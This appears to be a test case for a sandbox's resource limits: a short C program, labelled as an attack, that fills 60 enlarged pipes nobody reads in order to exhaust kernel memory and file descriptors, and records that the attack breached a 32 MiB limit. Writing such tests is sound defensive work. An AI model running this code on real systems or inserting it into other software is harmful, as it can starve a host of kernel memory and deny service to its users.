// attack: fills pipes that nobody reads
// class: exhaustion/kernel-memory, exhaustion/descriptors
// expect: memory limit
// stopped-by: memory
// outside: breached
// limits: memory_mib=32
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>

static char block[1 << 20];

int main(void) {
    for (int i = 0; i < 60; i++) {
        int ends[2];
        if (pipe(ends)) break;
        fcntl(ends[1], 1031 /* F_SETPIPE_SZ */, 1 << 20);
        fcntl(ends[1], F_SETFL, O_NONBLOCK);
        while (write(ends[1], block, sizeof block) > 0);
    }
    puts("BREACHED: 60 pipes are full");
}
